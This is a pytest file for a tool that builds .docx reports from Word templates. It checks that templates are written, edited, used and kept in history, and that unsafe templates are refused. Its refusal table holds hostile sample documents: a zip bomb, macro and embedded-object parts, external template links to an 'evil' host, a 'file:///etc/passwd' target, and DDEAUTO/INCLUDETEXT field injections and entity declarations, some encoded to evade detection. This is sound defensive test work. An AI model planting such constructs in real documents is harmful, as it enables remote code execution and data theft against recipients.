"""Templates of the .docx: written, changed in Word, used, kept in the history; refused where they cannot be used."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from lxml import etree

from assistant.domain.report import Report
from assistant.errors import InputError
from assistant.history.folder import Folder
from assistant.rendering.docx.default_template import default_template
from assistant.rendering.docx.elements import W
from assistant.rendering.docx.report import render_docx
from assistant.rendering.docx.styles import NEEDED
from assistant.rendering.docx.template import check_template
from tests.support.command_line import Run as Command
from tests.support.docx_parts import changed, document, faults, parts, style_of, texts
from tests.support.libreoffice import convert
from tests.support.places import EXAMPLE

FILED = date(2024, 4, 15)


def test_template_is_written_changed_and_used(ziping: Command) -> None:
    code, out, _ = ziping("template", "own.docx")
    assert code == 0 and "--template own.docx" in out
    assert ziping("template", "own.docx")[0] == 2 and ziping("template", "own.doc")[0] == 2
    letterhead(Path("own.docx"))
    code, _, _ = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", "own.docx")
    data = Path("report/report.docx").read_bytes()
    assert code == 0 and faults(data) == []
    files = parts(data)
    headers = [
        content.decode() for name, content in files.items() if "header" in name and name.endswith(".xml")
    ]
    assert any("某某局文件" in header for header in headers)
    assert b'w:eastAsia="\xe5\xae\x8b\xe4\xbd\x93"' in etree.tostring(
        style_of(files, "公文正文"), encoding="utf-8"
    )
    assert all(
        section.find(f"{W}pgMar").get(W + "top") == "2400"
        for section in list(document(data).iter(W + "sectPr"))[:2]
    )
    assert not any("模板" in text or "示意" in text for text in texts(data))


def letterhead(path: Path) -> None:
    """What an office does in Word: its name above every page, another face, another margin."""
    import docx
    from docx.shared import Twips

    own = docx.Document(str(path))
    for section in own.sections[:2]:
        section.top_margin = Twips(2400)
    header = own.sections[0].header
    header.is_linked_to_previous = False
    header.paragraphs[0].text = "某某局文件"
    style = own.styles["公文正文"].element
    style.rPr.rFonts.set(W + "eastAsia", "宋体")
    own.save(str(path))


def test_a_template_saved_by_libreoffice_is_used(report: Report, tmp_path: Path) -> None:
    """It gives styles other ids and settings another order; names and sections stay."""
    source = tmp_path / "own.docx"
    source.write_bytes(default_template())
    (tmp_path / "saved").mkdir()
    saved = convert(source, "docx", tmp_path / "saved").read_bytes()
    data = render_docx(report, FILED, saved, True)
    plain = render_docx(report, FILED, None, True)
    assert saved != source.read_bytes() and faults(data) == [] and texts(data) == texts(plain)
    assert [item.find(f"{W}pgSz").get(W + "orient") for item in document(data).iter(W + "sectPr")][
        -1
    ] == "landscape"


def test_the_template_is_kept_for_the_next_writing_and_for_replay(ziping: Command) -> None:
    ziping("template", "own.docx")
    letterhead(Path("own.docx"))
    ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", "own.docx", "--contents")
    first = Path("report/report.docx").read_bytes()
    Path("own.docx").unlink()
    assert ziping("render", "report")[0] == 0 and Path("report/report.docx").read_bytes() == first
    assert ziping("export", "report", "kept.json")[0] == 0
    code, _, err = ziping("replay", "kept.json", "--out", "again")
    assert code == 0 and "逐字节相同" in err and Path("again/report.docx").read_bytes() == first
    assert ziping("render", "report", "--no-contents")[0] == 0
    assert "目录" not in texts(Path("report/report.docx").read_bytes())
    assert ziping("history", "report", "--check")[0] == 0


def test_without_a_template_the_history_is_as_it_was(ziping: Command) -> None:
    ziping("draft", EXAMPLE, "--out", "report", "--offline")
    records = Folder(Path("report"), create=False).history.records()
    supplied = next(item for item in records if item.kind == "submission")
    assert set(supplied.data) == {"path", "file", "suffix", "submission", "standard", "waivers"}


def test_template_of_one_section_gives_cover_and_annex(report: Report) -> None:
    import docx

    own = docx.Document(io.BytesIO(default_template()))
    body = own.element.body
    for section in list(body.iter(W + "sectPr"))[:-1]:
        if section.find(W + "pgNumType") is None:
            section.getparent().remove(section)
        else:
            upright = section
    body.remove(body.sectPr)
    body.append(upright)
    stream = io.BytesIO()
    own.save(stream)
    data = render_docx(report, FILED, stream.getvalue())
    assert faults(data) == []
    sections = list(document(data).iter(W + "sectPr"))
    assert [item.find(f"{W}pgSz").get(W + "orient") for item in sections] == [None, None, "landscape"]


@pytest.mark.parametrize("look", [look.name for look in NEEDED])
def test_a_missing_style_is_named(look: str) -> None:
    data = changed(
        default_template(), "word/styles.xml", (f'<w:name w:val="{look}"/>', '<w:name w:val="别的"/>')
    )
    with pytest.raises(InputError, match=r"模板缺少样式：“.+”；请用 ziping template") as error:
        check_template(data)
    shown = re.findall("“(.+?)”", str(error.value))
    assert len(shown) == 1 and (look in shown or look.isascii())


def bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * 60_000_000)
    return stream.getvalue()


def added(name: str, content: str | bytes) -> bytes:
    stream = io.BytesIO(default_template())
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr(name, content)
    return stream.getvalue()


def relation(attributes: str) -> bytes:
    """A template with one more part of relations, which holds one."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return added(
        "word/_rels/settings.xml.rels",
        f'<a-b:Relationships xmlns:a-b="{space}"><a-b:Relationship {attributes}/></a-b:Relationships>',
    )


def field(*pieces: str) -> str:
    """A part with a field whose code is spread over runs."""
    runs = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    return f'<w:x xmlns:w="{W[1:-1]}"><w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/></w:x>'


OUTSIDE = (
    '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
MACRO_TYPE = ("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
REFUSED = {
    "text": (b"hello", "不是 .docx，或不完整"),
    "empty": (b"", "不是 .docx，或不完整"),
    "old": (bytes.fromhex("D0CF11E0A1B11AE1"), "旧格式（.doc 或 .wps）或有打开密码"),
    "half": (default_template()[:3000], "不是 .docx，或不完整"),
    "workbook": (changed(default_template(), "word/document.xml"), "里没有文档，不是 .docx"),
    "bomb": (bomb(), "解压后有60MB"),
    "macro": (added("word/vbaProject.bin", ""), "含有宏或嵌入对象"),
    "macro type": (changed(default_template(), "[Content_Types].xml", MACRO_TYPE), "启用宏的文档"),
    "object": (added("word/embeddings/a.bin", ""), "含有宏或嵌入对象"),
    "outside": (added("word/_rels/settings.xml.rels", OUTSIDE), "引用了外部文件或网址（http://evil/t.dotm）"),
    "field": (added("word/header9.xml", field(" INCLU", 'DETEXT "x"')), "引用外部文件的域"),
    "entity": (added("word/header9.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "含有实体声明"),
    "outside by references": (
        relation('Id="a" Type="t" Target="http://evil/t.dotm" TargetMode="&#69;xtern&#x61;l"'),
        "（http://evil/t.dotm）",
    ),
    "outside in single quotes": (
        relation("Id='a' Type='t' Title='a>b' Target='http://evil/t.dotm' TargetMode='External'"),
        "（http://evil/t.dotm）",
    ),
    "outside in capitals": (
        relation('Id="a" Type="t" Target="t.dotm" TargetMode=" EXTERNAL "'),
        "引用了外部文件或网址（t.dotm）",
    ),
    "outside without saying so": (
        relation('Id="a" Type="t" Target="fil&#101;:///etc/passwd"'),
        "（file:///etc/passwd）",
    ),
    "another machine": (relation(r'Id="a" Type="t" Target="\\evil\a"'), r"（\\evil\a）"),
    "picture outside": (
        added(
            "word/header9.xml",
            '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http&#58;//evil/a.png"/>',
        ),
        "（http://evil/a.png）",
    ),
    "mail merge": (added("word/header9.xml", f'<w:mailMerge xmlns:w="{W[1:-1]}"/>'), "邮件合并的数据源"),
    "macro under another name": (
        relation('Id="a" Type="http://x/relationships/vbaProjec&#116;" Target="theme.bin"'),
        "含有宏或嵌入对象（theme.bin）",
    ),
    "macro of another type": (
        changed(
            added("word/a.dat", ""),
            "[Content_Types].xml",
            (
                "</Types>",
                '<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>',
            ),
        ),
        "含有宏或嵌入对象（a.dat）",
    ),
    "field by references": (
        added("word/header9.xml", field(" INCLU&#68;E", "TEXT &quot;x&quot;")),
        "引用外部文件的域",
    ),
    "field behind another": (
        added(
            "word/header9.xml", field(r"TOC \h").replace("</w:x>", "") + field("DDEAUTO a").partition(">")[2]
        ),
        "引用外部文件的域",
    ),
    "simple field": (
        added("word/header9.xml", f"<w:fldSimple xmlns:w='{W[1:-1]}' w:instr=' DDE&#65;UTO c:\\a '/>"),
        "引用外部文件的域",
    ),
    "xml of another name": (
        changed(
            added("word/a.dat", field(" LINK Excel.Sheet")),
            "[Content_Types].xml",
            ("</Types>", '<Override PartName="/word/a.dat" ContentType="application/xml"/></Types>'),
        ),
        "引用外部文件的域",
    ),
    "entity in utf-16": (
        added(
            "word/header9.xml",
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16"),
        ),
        "含有实体声明",
    ),
    "entity in another encoding": (
        added("word/header9.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a +AFsAXQA+-<a/>'),
        "模板不能打开：word/header9.xml",
    ),
    "the same name twice": (added("word/Document.xml", "<a/>"), "重名的文件"),
    "broken xml": (changed(default_template(), "word/styles.xml", ("</w:styles>", "")), "模板不能打开"),
    "no section": (
        changed(
            default_template(),
            "word/document.xml",
            ("w:pgMar", "w:pgMore"),
            ("w:pgMar", "w:pgMore"),
            ("w:pgMar", "w:pgMore"),
        ),
        "页面设置读不出来",
    ),
    "style": (
        changed(default_template(), "word/styles.xml", ('"公文正文"', '"正文体"')),
        "模板缺少样式：“公文正文”",
    ),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_a_template_that_cannot_be_used_is_refused(ziping: Command, kind: str) -> None:
    data, says = REFUSED[kind]
    Path("own.docx").write_bytes(data)
    code, _, err = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", "own.docx")
    assert code == 2 and says in err and "own.docx" in err and err.count("\n") == 1, err
    assert not Path("report").exists()


def test_links_inside_a_template_are_no_links_outside(ziping: Command) -> None:
    """A contents page that Word has filled in links to places in the document."""
    inside = (
        field(r' HYPERLINK \l "_Toc1" ').replace("</w:x>", "") + field(" PAGEREF _ADDED1 ").partition(">")[2]
    )
    Path("own.docx").write_bytes(added("word/header9.xml", inside))
    code, _, err = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", "own.docx")
    assert code == 0, err


def test_a_template_that_is_not_there_or_too_large(ziping: Command) -> None:
    for name, says in (("none.docx", "文件不存在"), (".", "这是文件夹")):
        code, _, err = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", name)
        assert code == 2 and says in err
    with Path("big.docx").open("wb") as file:
        file.truncate(21_000_000)
    assert "文件超过20MB" in ziping("draft", EXAMPLE, "--out", "r", "--offline", "--template", "big.docx")[2]
